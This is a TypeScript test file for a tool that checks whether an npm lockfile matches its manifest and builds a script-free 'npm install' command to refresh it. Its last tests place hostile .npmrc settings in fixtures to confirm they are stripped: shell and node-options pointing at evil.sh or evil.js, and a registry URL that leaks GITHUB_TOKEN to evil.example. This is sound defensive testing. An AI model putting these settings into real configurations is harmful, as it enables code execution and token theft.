import { describe, expect, it } from 'vitest';
import { DEFAULT_STACK } from '../../stacks/index.ts';
import type { LockState } from '../../stacks/lock.ts';
import { temporaryFolder } from '../support/folder.ts';
import { execute, plainEnvironment } from '../support/program.ts';

/** Whether a lockfile fits its manifest: what this program says, and what npm says. */

const { lock } = await DEFAULT_STACK.load();

type Entries = Readonly<Record<string, object>>;

interface Case {
  readonly what: string;
  /** Keys of package.json besides name and version. */
  readonly manifest: object;
  /** Of package-lock.json. */
  readonly packages: Entries;
  /** Nothing if it fits. */
  readonly reasons?: readonly string[];
  readonly npmrc?: string;
}

const NAMED = { name: 'orders', version: '1.0.0' };
/** A package with what it needs; npm takes the version from where it came from. */
const has = (version: string, more: object = {}) => ({ version, ...more });
const lib = (version: string) => ({ 'node_modules/lib': has(version) });
const top = (range: string, more: Entries = {}) => ({
  'node_modules/top': has('1.0.0', { dependencies: { lib: range } }),
  ...more,
});
const deps = (dependencies: object, more: object = {}) => ({ dependencies, ...more });

const CASES: readonly Case[] = [
  { what: 'nothing is needed', manifest: {}, packages: {} },
  { what: 'the same version', manifest: deps({ lib: '1.0.0' }), packages: lib('1.0.0') },
  { what: 'a version of the range', manifest: deps({ lib: '^1' }), packages: lib('1.9.0') },
  { what: 'a package is missing', manifest: deps({ lib: '^1' }), packages: {}, reasons: ['lib@^1 is missing'] },
  {
    what: 'one for development is missing',
    manifest: { devDependencies: { lib: '^1' } },
    packages: {},
    reasons: ['lib@^1 is missing'],
  },
  {
    what: 'an optional one is missing',
    manifest: { optionalDependencies: { lib: '^1' } },
    packages: {},
    reasons: ['lib@^1 is missing'],
  },
  {
    what: 'a peer is missing',
    manifest: { peerDependencies: { lib: '^1' } },
    packages: {},
    reasons: ['lib@^1 is missing'],
  },
  {
    what: 'an optional peer is missing',
    manifest: { peerDependencies: { lib: '^1' }, peerDependenciesMeta: { lib: { optional: true } } },
    packages: {},
  },
  {
    what: 'another version',
    manifest: deps({ lib: '^2' }),
    packages: lib('1.0.0'),
    reasons: ['lib@^2: it has 1.0.0'],
  },
  {
    what: 'a version before a release',
    manifest: deps({ lib: '^1.0.0' }),
    packages: lib('1.1.0-beta.1'),
    reasons: ['lib@^1.0.0: it has 1.1.0-beta.1'],
  },
  { what: 'more than is needed', manifest: {}, packages: lib('1.0.0') },
  {
    what: 'an alias',
    manifest: deps({ other: 'npm:lib@^1' }),
    packages: { 'node_modules/other': { ...has('1.0.0'), name: 'lib' } },
  },
  {
    what: 'an alias of another version',
    manifest: deps({ other: 'npm:lib@^2' }),
    packages: { 'node_modules/other': { ...has('1.0.0'), name: 'lib' } },
    reasons: ['other@npm:lib@^2: it has 1.0.0'],
  },
  { what: 'what a package needs', manifest: deps({ top: '1.0.0' }), packages: top('^1', lib('1.0.0')) },
  {
    what: 'what a package needs is missing',
    manifest: deps({ top: '1.0.0' }),
    packages: top('^1'),
    reasons: ['lib@^1 is missing (of top)'],
  },
  {
    what: 'what a package needs has another version',
    manifest: deps({ top: '1.0.0' }),
    packages: top('^2', lib('1.0.0')),
    reasons: ['lib@^2: it has 1.0.0 (of top)'],
  },
  {
    what: 'a package has its own version of another',
    manifest: deps({ top: '1.0.0', lib: '^1' }),
    packages: { ...top('^2', lib('1.0.0')), 'node_modules/top/node_modules/lib': has('2.0.0') },
  },
  {
    what: 'nobody needs the package that misses one',
    manifest: {},
    packages: top('^1'),
  },
  {
    what: 'a peer of a package is missing',
    manifest: deps({ peery: '1.0.0' }),
    packages: { 'node_modules/peery': has('1.0.0', { peerDependencies: { lib: '^1' } }) },
    reasons: ['lib@^1 is missing (of peery)'],
  },
  {
    what: 'a peer is missing that this service does not want',
    manifest: deps({ peery: '1.0.0' }),
    packages: { 'node_modules/peery': has('1.0.0', { peerDependencies: { lib: '^1' } }) },
    npmrc: 'save-exact=true\nlegacy-peer-deps = true\n',
  },
  {
    what: 'an override gives another version',
    manifest: deps({ top: '1.0.0' }, { overrides: { lib: '2.0.0' } }),
    packages: top('^1', lib('2.0.0')),
  },
  {
    what: 'an override is new',
    manifest: deps({ top: '1.0.0' }, { overrides: { lib: '2.0.0' } }),
    packages: top('^1', lib('1.0.0')),
    reasons: ['lib@2.0.0: it has 1.0.0 (of top)'],
  },
  {
    what: 'an override is gone',
    manifest: deps({ top: '1.0.0' }),
    packages: top('^1', lib('2.0.0')),
    reasons: ['lib@^1: it has 2.0.0 (of top)'],
  },
  {
    what: 'an override takes the version of the service',
    manifest: deps({ top: '1.0.0', lib: '2.0.0' }, { overrides: { lib: '$lib' } }),
    packages: top('^1', lib('2.0.0')),
  },
  {
    what: 'an override for one package only',
    manifest: deps({ top: '1.0.0' }, { overrides: { top: { lib: '2.0.0' } } }),
    packages: top('^1', lib('2.0.0')),
  },
  {
    what: 'two lists have it, the one for development counts',
    manifest: { dependencies: { lib: '1.0.0' }, devDependencies: { lib: '2.0.0' } },
    packages: lib('1.0.0'),
    reasons: ['lib@2.0.0: it has 1.0.0'],
  },
];

const texts = ({ manifest, packages, npmrc }: Case): Record<string, string> => ({
  'package.json': JSON.stringify({ ...NAMED, ...manifest }),
  'package-lock.json': JSON.stringify({
    ...NAMED,
    lockfileVersion: 3,
    requires: true,
    packages: { '': { ...NAMED, ...manifest, overrides: undefined }, ...packages },
  }),
  ...(npmrc === undefined ? {} : { '.npmrc': npmrc }),
});

const check = (files: Record<string, string>): Promise<LockState> => lock.check((path) => files[path]);

describe.each(CASES)('$what', (one) => {
  const { reasons } = one;

  it(`${reasons ? 'does not fit' : 'fits'}`, async () => {
    const path = 'package-lock.json';
    expect(await check(texts(one))).toEqual(
      reasons ? { kind: 'misfit', path, reasons, isShared: false } : { kind: 'fits', path },
    );
  });

  it('npm says the same', { tags: ['long'] }, async () => {
    const cwd = temporaryFolder(texts(one));
    const args = ['ci', '--dry-run', '--ignore-scripts', '--offline', '--no-audit', '--no-fund'];
    const { code, stderr } = await execute('npm', args, { cwd, env: plainEnvironment({ HOME: cwd }) });
    expect(code === 0, stderr).toBe(reasons === undefined);
  });
});

describe('what else there may be', () => {
  const files = texts({ what: '', manifest: deps({ lib: '^2' }), packages: lib('1.0.0') });

  it.each([
    ['no manifest', { 'package-lock.json': '{}' }, 'none'],
    ['no lockfile', { 'package.json': '{}' }, 'unlocked'],
    ['the lockfile of another tool', { 'package.json': '{}', 'yarn.lock': '' }, 'none'],
    ['a manifest with conflict markers', { ...files, 'package.json': '<<<<<<< yours\n' }, 'unreadable'],
    ['a lockfile with conflict markers', { ...files, 'package-lock.json': '<<<<<<< yours\n' }, 'misfit'],
    ['a lockfile that is a list', { ...files, 'package-lock.json': '[]' }, 'misfit'],
    [
      'parts that have other types',
      { ...files, 'package-lock.json': '{"packages":{"":1,"node_modules/lib":"x"}}' },
      'misfit',
    ],
    ['a manifest of other types', { ...files, 'package.json': '{"dependencies":[1],"overrides":"x"}' }, 'fits'],
    [
      'npm-shrinkwrap.json',
      { ...files, 'npm-shrinkwrap.json': files['package-lock.json']?.replace('"1.0.0"}}', '"2.0.0"}}') },
      'fits',
    ],
    [
      'a lockfile of npm 6',
      { ...files, 'package-lock.json': '{"dependencies":{"lib":{"version":"2.1.0","requires":{"a":"1"}}}}' },
      'fits',
    ],
    ['folders', { ...files, 'package.json': '{"dependencies":{"lib":"file:../lib"}}' }, 'misfit'],
    ['a byte order mark', { ...files, 'package.json': '\uFEFF{}' }, 'fits'],
  ] as [string, Record<string, string>, string][])('%s', async (_what, given, kind) => {
    expect(await check(given)).toMatchObject({ kind });
  });
});

describe('a package of a workspace', () => {
  const service = { 'package.json': JSON.stringify({ ...NAMED, dependencies: { lib: '^1' } }) };
  const around = (packages: Entries, overrides?: object): Record<string, string> => ({
    'package.json': JSON.stringify({ workspaces: ['services/*'], overrides }),
    'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages: { 'services/orders': NAMED, ...packages } }),
  });
  const checkIn = (root: Record<string, string>, more: Record<string, string> = {}) =>
    lock.check((path) => ({ ...service, ...more })[path as 'package.json'], {
      read: (path) => root[path],
      location: 'services/orders',
    });

  it('is judged by the lockfile of the workspace', async () => {
    expect(await checkIn(around(lib('1.0.0')))).toMatchObject({ kind: 'fits' });
    expect(await checkIn(around({ 'services/orders/node_modules/lib': has('1.0.0') }))).toMatchObject({ kind: 'fits' });
    expect(await checkIn(around({}))).toMatchObject({ kind: 'misfit', isShared: true, reasons: ['lib@^1 is missing'] });
    expect(await checkIn(around(lib('2.0.0'), { lib: '2.0.0' }))).toMatchObject({ kind: 'fits' });
  });

  it('is judged by its own lockfile if the workspace does not know it', async () => {
    const root = { 'package.json': '{"workspaces":["other/*"]}', 'package-lock.json': '{"packages":{}}' };
    const { 'package-lock.json': own = '' } = texts({ what: '', manifest: {}, packages: lib('1.0.0') });
    expect(await checkIn(root, { 'package-lock.json': own })).toMatchObject({ kind: 'fits' });
    expect(await checkIn(root)).toEqual({ kind: 'unlocked' });
  });
});

describe('what brings it in line', () => {
  const files = { 'package.json': '{"dependencies":{"lib":"^2"}}', 'package-lock.json': '{}' };
  const refresh = (more: Record<string, string>, before: Record<string, string> = {}) =>
    lock.refresh(
      (path) => ({ ...files, ...more })[path as keyof typeof files],
      (path) => before[path],
    );

  it('is a command that runs no code of any package', async () => {
    const recipe = await refresh({});
    expect(recipe).toMatchObject({ files });
    expect(typeof recipe === 'string' ? [] : recipe.command).toEqual(
      expect.arrayContaining(['npm', 'install', '--package-lock-only', '--ignore-scripts']),
    );
  });

  it.each([
    ['a folder', '{"dependencies":{"lib":"file:../lib"}}', 'lib comes from file:../lib'],
    ['a repository', '{"devDependencies":{"lib":"github:acme/lib"}}', 'lib comes from github:acme/lib'],
    ['a short repository', '{"dependencies":{"lib":"acme/lib"}}', 'lib comes from acme/lib'],
    ['a URL', '{"dependencies":{"lib":"https://acme.example/lib.tgz"}}', 'lib comes from https://acme.example/lib.tgz'],
    ['a workspace', '{"workspaces":["a"]}', 'it is a workspace'],
  ])('%s needs the folder itself', async (_what, manifest, why) => {
    expect(await refresh({ 'package.json': manifest })).toBe(why);
  });

  // biome-ignore lint/suspicious/noTemplateCurlyInString: npm reads it
  const LOGIN = '//npm.acme.example/:_authToken=${NPM_TOKEN}';

  it('takes settings that change the lockfile, and no others', async () => {
    const npmrc = `omit-lockfile-registry-resolved=true\n@acme:registry=https://npm.acme.example/\nscript-shell=./evil.sh\ngit=./evil.sh\nnode-options=--require=./evil.js\ncafile=./x\n`;
    expect(await refresh({ '.npmrc': npmrc })).toMatchObject({
      files: { '.npmrc': 'omit-lockfile-registry-resolved=true\n@acme:registry=https://npm.acme.example/\n' },
    });
  });

  it('takes a login and a variable of the environment from the team alone', async () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: npm reads it
    const leak = 'registry=https://evil.example/${GITHUB_TOKEN}/';
    const npmrc = `${LOGIN}\n${leak}\n//evil.example/:_authToken=x\n`;
    expect(await refresh({ '.npmrc': npmrc }, { '.npmrc': `save-exact=true\n${LOGIN}\n` })).toMatchObject({
      files: { '.npmrc': `${LOGIN}\n` },
    });
    expect(await refresh({ '.npmrc': npmrc })).toEqual(expect.objectContaining({ files }));
  });
});
